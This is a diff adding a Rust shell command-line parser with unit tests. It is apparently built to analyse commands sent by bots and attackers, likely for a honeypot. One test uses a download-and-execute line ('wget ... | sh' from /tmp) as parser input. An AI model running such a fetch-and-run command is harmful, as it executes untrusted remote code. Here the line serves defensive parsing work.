@@ -0,0 +1,564 @@
+// POSIX-like command line parser, supporting the subset of the shell grammar that's
+// commonly used by bots and attackers: quoting, lists, pipelines, redirections and
+// command substitution.
+
+// piece of a word
+#[derive(Clone, Debug, PartialEq)]
+pub enum Part {
+    Literal(String),
+    // $(...) or `...`, executed when the word is expanded
+    Substitution { command: String, quoted: bool },
+}
+
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct Word {
+    // text as it appears in the command line
+    pub raw: String,
+    pub parts: Vec<Part>,
+}
+
+impl Word {
+    pub fn has_substitutions(&self) -> bool {
+        self.parts
+            .iter()
+            .any(|p| matches!(p, Part::Substitution { .. }))
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum RedirectKind {
+    // >
+    Write,
+    // >>
+    Append,
+    // <
+    Read,
+    // >&N
+    Duplicate,
+}
+
+#[derive(Clone, Debug, PartialEq)]
+pub struct Redirect {
+    pub fd: u32,
+    pub kind: RedirectKind,
+    pub target: Word,
+}
+
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct Command {
+    pub words: Vec<Word>,
+    pub redirects: Vec<Redirect>,
+}
+
+impl Command {
+    fn is_empty(&self) -> bool {
+        self.words.is_empty() && self.redirects.is_empty()
+    }
+}
+
+// when a pipeline is executed depending on the exit status of the previous one
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum Condition {
+    // ; & or newline
+    Always,
+    // &&
+    Success,
+    // ||
+    Failure,
+}
+
+#[derive(Clone, Debug, PartialEq)]
+pub struct Pipeline {
+    pub condition: Condition,
+    pub commands: Vec<Command>,
+}
+
+fn unexpected(token: &str) -> String {
+    format!("sh: syntax error: unexpected \"{}\"", token)
+}
+
+const UNTERMINATED: &str = "sh: syntax error: unterminated quoted string";
+
+// terminate the current command and pipeline
+fn end_pipeline(
+    commands: &mut Vec<Command>,
+    command: &mut Command,
+    condition: Condition,
+    token: &str,
+) -> Result<Option<Pipeline>, String> {
+    if command.is_empty() {
+        // empty lines are fine, empty commands between operators are not
+        if !commands.is_empty() || token != "\n" {
+            return Err(unexpected(token));
+        }
+        return Ok(None);
+    }
+
+    commands.push(std::mem::take(command));
+    Ok(Some(Pipeline {
+        condition,
+        commands: std::mem::take(commands),
+    }))
+}
+
+struct Parser {
+    chars: Vec<char>,
+    pos: usize,
+}
+
+impl Parser {
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.pos).copied()
+    }
+
+    fn peek_at(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn skip_blanks(&mut self) {
+        while matches!(self.peek(), Some(' ') | Some('\t') | Some('\r')) {
+            self.pos += 1;
+        }
+    }
+
+    fn is_delimiter(c: char) -> bool {
+        matches!(c, ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '<' | '>')
+    }
+
+    // read the body of a $(...) substitution, the opening parenthesis has been consumed
+    fn substitution(&mut self) -> Result<String, String> {
+        let start = self.pos;
+        let mut depth = 1;
+        let mut quote: Option<char> = None;
+
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match (quote, c) {
+                (Some(q), c) if c == q => quote = None,
+                (Some('"'), '\\') => self.pos += 1,
+                (Some(_), _) => {}
+                (None, '\'') | (None, '"') => quote = Some(c),
+                (None, '\\') => self.pos += 1,
+                (None, '(') => depth += 1,
+                (None, ')') => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Ok(self.chars[start..self.pos - 1].iter().collect());
+                    }
+                }
+                _ => {}
+            }
+        }
+
+        Err(unexpected("end of file"))
+    }
+
+    // read the body of a `...` substitution, the opening backtick has been consumed
+    fn backticks(&mut self) -> Result<String, String> {
+        let mut command = String::new();
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match c {
+                '`' => return Ok(command),
+                '\\' if matches!(self.peek(), Some('`') | Some('\\') | Some('$')) => {
+                    command.push(self.chars[self.pos]);
+                    self.pos += 1;
+                }
+                c => command.push(c),
+            }
+        }
+
+        Err(UNTERMINATED.to_owned())
+    }
+
+    fn word(&mut self) -> Result<Word, String> {
+        let start = self.pos;
+        let mut parts = vec![];
+        let mut literal = String::new();
+        let mut in_double = false;
+
+        macro_rules! substitution {
+            ($command:expr) => {{
+                let command = $command;
+                if !literal.is_empty() {
+                    parts.push(Part::Literal(std::mem::take(&mut literal)));
+                }
+                parts.push(Part::Substitution {
+                    command,
+                    quoted: in_double,
+                });
+            }};
+        }
+
+        while let Some(c) = self.peek() {
+            if !in_double && Self::is_delimiter(c) {
+                break;
+            }
+            self.pos += 1;
+
+            match c {
+                '"' => in_double = !in_double,
+                '\'' if !in_double => loop {
+                    match self.peek() {
+                        Some('\'') => {
+                            self.pos += 1;
+                            break;
+                        }
+                        Some(c) => {
+                            literal.push(c);
+                            self.pos += 1;
+                        }
+                        None => return Err(UNTERMINATED.to_owned()),
+                    }
+                },
+                '\\' => match self.peek() {
+                    // line continuation
+                    Some('\n') => self.pos += 1,
+                    Some(next) if !in_double || matches!(next, '"' | '\\' | '$' | '`') => {
+                        literal.push(next);
+                        self.pos += 1;
+                    }
+                    _ => literal.push('\\'),
+                },
+                '$' if self.peek() == Some('(') => {
+                    self.pos += 1;
+                    substitution!(self.substitution()?)
+                }
+                '`' => substitution!(self.backticks()?),
+                c => literal.push(c),
+            }
+        }
+
+        if in_double {
+            return Err(UNTERMINATED.to_owned());
+        }
+        if !literal.is_empty() || parts.is_empty() {
+            parts.push(Part::Literal(literal));
+        }
+
+        Ok(Word {
+            raw: self.chars[start..self.pos].iter().collect(),
+            parts,
+        })
+    }
+
+    // parse a redirection operator, optionally preceded by a file descriptor number,
+    // and its target
+    fn redirect(&mut self) -> Result<Redirect, String> {
+        let mut fd = None;
+        if let Some(digit) = self.peek().and_then(|c| c.to_digit(10)) {
+            fd = Some(digit);
+            self.pos += 1;
+        }
+
+        let (kind, default_fd) = match (self.peek(), self.peek_at(1)) {
+            (Some('>'), Some('>')) => (RedirectKind::Append, 1),
+            (Some('>'), Some('&')) => (RedirectKind::Duplicate, 1),
+            (Some('>'), _) => (RedirectKind::Write, 1),
+            (Some('<'), _) => (RedirectKind::Read, 0),
+            _ => {
+                return Err(unexpected(
+                    &self.chars[self.pos..].iter().collect::<String>(),
+                ))
+            }
+        };
+        self.pos += if kind == RedirectKind::Append || kind == RedirectKind::Duplicate {
+            2
+        } else {
+            1
+        };
+
+        self.skip_blanks();
+        match self.peek() {
+            None | Some('\n') => Err(unexpected("newline")),
+            Some(c) if Self::is_delimiter(c) => Err(unexpected(&c.to_string())),
+            _ => Ok(Redirect {
+                fd: fd.unwrap_or(default_fd),
+                kind,
+                target: self.word()?,
+            }),
+        }
+    }
+
+    fn is_redirect(&self) -> bool {
+        match self.peek() {
+            Some('>') | Some('<') => true,
+            Some(c) if c.is_ascii_digit() => matches!(self.peek_at(1), Some('>') | Some('<')),
+            _ => false,
+        }
+    }
+
+    fn parse(&mut self) -> Result<Vec<Pipeline>, String> {
+        let mut list = vec![];
+        let mut condition = Condition::Always;
+        let mut commands: Vec<Command> = vec![];
+        let mut command = Command::default();
+        // true after an operator that requires a command to follow (&&, || and |)
+        let mut pending = false;
+
+        loop {
+            self.skip_blanks();
+
+            let c = match self.peek() {
+                Some(c) => c,
+                None => break,
+            };
+
+            match (c, self.peek_at(1)) {
+                ('#', _) => {
+                    while !matches!(self.peek(), None | Some('\n')) {
+                        self.pos += 1;
+                    }
+                }
+                ('&', Some('&')) | ('|', Some('|')) => {
+                    let token = if c == '&' { "&&" } else { "||" };
+                    if let Some(pipeline) =
+                        end_pipeline(&mut commands, &mut command, condition, token)?
+                    {
+                        list.push(pipeline);
+                    }
+                    condition = if c == '&' {
+                        Condition::Success
+                    } else {
+                        Condition::Failure
+                    };
+                    pending = true;
+                    self.pos += 2;
+                }
+                (';', _) | ('&', _) | ('\n', _) => {
+                    // empty lines are allowed, unless an operator is waiting for its command
+                    if c == '\n' && pending {
+                        self.pos += 1;
+                        continue;
+                    }
+                    if let Some(pipeline) =
+                        end_pipeline(&mut commands, &mut command, condition, &c.to_string())?
+                    {
+                        list.push(pipeline);
+                    }
+                    condition = Condition::Always;
+                    pending = false;
+                    self.pos += 1;
+                }
+                ('|', _) => {
+                    if command.is_empty() {
+                        return Err(unexpected("|"));
+                    }
+                    commands.push(std::mem::take(&mut command));
+                    pending = true;
+                    self.pos += 1;
+                }
+                _ if self.is_redirect() => {
+                    command.redirects.push(self.redirect()?);
+                    pending = false;
+                }
+                _ => {
+                    command.words.push(self.word()?);
+                    pending = false;
+                }
+            }
+        }
+
+        if pending {
+            return Err(unexpected("end of file"));
+        }
+        if !command.is_empty() {
+            commands.push(command);
+            list.push(Pipeline {
+                condition,
+                commands,
+            });
+        }
+
+        Ok(list)
+    }
+}
+
+// parse a command line into a list of pipelines
+pub fn parse(line: &str) -> Result<Vec<Pipeline>, String> {
+    Parser {
+        chars: line.chars().collect(),
+        pos: 0,
+    }
+    .parse()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // raw words of every command of every pipeline
+    fn words(line: &str) -> Vec<Vec<Vec<String>>> {
+        parse(line)
+            .unwrap()
+            .iter()
+            .map(|pipeline| {
+                pipeline
+                    .commands
+                    .iter()
+                    .map(|command| command.words.iter().map(|w| w.raw.clone()).collect())
+                    .collect()
+            })
+            .collect()
+    }
+
+    fn literal(word: &Word) -> String {
+        match word.parts.as_slice() {
+            [Part::Literal(literal)] => literal.clone(),
+            parts => panic!("not a literal: {:?}", parts),
+        }
+    }
+
+    #[test]
+    fn lists_and_pipelines() {
+        assert_eq!(
+            words("cd /tmp; wget http://x/a.sh | sh && echo ok || echo ko &"),
+            vec![
+                vec![vec!["cd", "/tmp"]],
+                vec![vec!["wget", "http://x/a.sh"], vec!["sh"]],
+                vec![vec!["echo", "ok"]],
+                vec![vec!["echo", "ko"]],
+            ]
+        );
+
+        let list = parse("true && false || ls\nuname").unwrap();
+        let conditions: Vec<Condition> = list.iter().map(|p| p.condition).collect();
+        assert_eq!(
+            conditions,
+            vec![
+                Condition::Always,
+                Condition::Success,
+                Condition::Failure,
+                Condition::Always
+            ]
+        );
+    }
+
+    #[test]
+    fn empty_lines_and_comments() {
+        assert!(parse("").unwrap().is_empty());
+        assert!(parse("   \n\n# nothing to see").unwrap().is_empty());
+        assert_eq!(words("ls # -la\n"), vec![vec![vec!["ls"]]]);
+        // the command after an operator can be on the next line
+        assert_eq!(words("ls &&\n\nid").len(), 2);
+    }
+
+    #[test]
+    fn quoting() {
+        let list = parse(r#"echo 'a  b' "c $d" e\ f "g\"h" 'i\j'"#).unwrap();
+        let literals: Vec<String> = list[0].commands[0].words.iter().map(literal).collect();
+        assert_eq!(literals, vec!["echo", "a  b", "c $d", "e f", "g\"h", "i\\j"]);
+
+        // delimiters are literal inside double quotes
+        let list = parse(r#"echo "a;b|c>d""#).unwrap();
+        assert_eq!(literal(&list[0].commands[0].words[1]), "a;b|c>d");
+
+        // line continuation
+        assert_eq!(words("echo a\\\nb"), vec![vec![vec!["echo", "a\\\nb"]]]);
+    }
+
+    #[test]
+    fn substitutions() {
+        let list = parse(r#"echo $(uname -a) "x`id`" $(echo "(" $(pwd))"#).unwrap();
+        let words = &list[0].commands[0].words;
+        assert_eq!(
+            words[1].parts,
+            vec![Part::Substitution {
+                command: "uname -a".to_owned(),
+                quoted: false
+            }]
+        );
+        assert_eq!(
+            words[2].parts,
+            vec![
+                Part::Literal("x".to_owned()),
+                Part::Substitution {
+                    command: "id".to_owned(),
+                    quoted: true
+                }
+            ]
+        );
+        assert_eq!(
+            words[3].parts,
+            vec![Part::Substitution {
+                command: r#"echo "(" $(pwd)"#.to_owned(),
+                quoted: false
+            }]
+        );
+        assert!(words[3].has_substitutions());
+        assert!(!words[0].has_substitutions());
+    }
+
+    #[test]
+    fn redirections() {
+        let list = parse("cat < in 2>/dev/null >>out 2>&1 > x").unwrap();
+        let redirects: Vec<(u32, RedirectKind, String)> = list[0].commands[0]
+            .redirects
+            .iter()
+            .map(|r| (r.fd, r.kind, r.target.raw.clone()))
+            .collect();
+        assert_eq!(
+            redirects,
+            vec![
+                (0, RedirectKind::Read, "in".to_owned()),
+                (2, RedirectKind::Write, "/dev/null".to_owned()),
+                (1, RedirectKind::Append, "out".to_owned()),
+                (2, RedirectKind::Duplicate, "1".to_owned()),
+                (1, RedirectKind::Write, "x".to_owned()),
+            ]
+        );
+
+        // a redirection alone is a command
+        assert_eq!(parse("> file").unwrap()[0].commands[0].redirects.len(), 1);
+    }
+
+    #[test]
+    fn unterminated_quotes() {
+        for line in &[
+            "echo 'abc",
+            "echo \"abc",
+            "echo \"abc'",
+            "echo `id",
+            "echo \"$(id)",
+            "echo 'a' \"b",
+        ] {
+            assert_eq!(parse(line), Err(UNTERMINATED.to_owned()), "{}", line);
+        }
+    }
+
+    #[test]
+    fn unterminated_substitutions() {
+        for line in &["echo $(id", "echo $(echo $(id)", "echo $(echo ')'", "echo $("] {
+            assert_eq!(parse(line), Err(unexpected("end of file")), "{}", line);
+        }
+    }
+
+    #[test]
+    fn missing_commands() {
+        assert_eq!(parse("&& ls"), Err(unexpected("&&")));
+        assert_eq!(parse("ls || || id"), Err(unexpected("||")));
+        assert_eq!(parse("| ls"), Err(unexpected("|")));
+        assert_eq!(parse("ls | | wc"), Err(unexpected("|")));
+        assert_eq!(parse("ls ;;"), Err(unexpected(";")));
+        assert_eq!(parse("; ls"), Err(unexpected(";")));
+        assert_eq!(parse("ls | &"), Err(unexpected("&")));
+        assert_eq!(parse("ls |"), Err(unexpected("end of file")));
+        assert_eq!(parse("ls &&"), Err(unexpected("end of file")));
+        assert_eq!(parse("ls &&\n"), Err(unexpected("end of file")));
+    }
+
+    #[test]
+    fn missing_redirection_targets() {
+        assert_eq!(parse("echo >"), Err(unexpected("newline")));
+        assert_eq!(parse("echo >\nls"), Err(unexpected("newline")));
+        assert_eq!(parse("echo > ; ls"), Err(unexpected(";")));
+        assert_eq!(parse("echo 2> | ls"), Err(unexpected("|")));
+        assert_eq!(parse("cat <"), Err(unexpected("newline")));
+    }
+
+    #[test]
+    fn trailing_backslash() {
+        let list = parse("echo \\").unwrap();
+        assert_eq!(literal(&list[0].commands[0].words[1]), "\\");
+    }
+}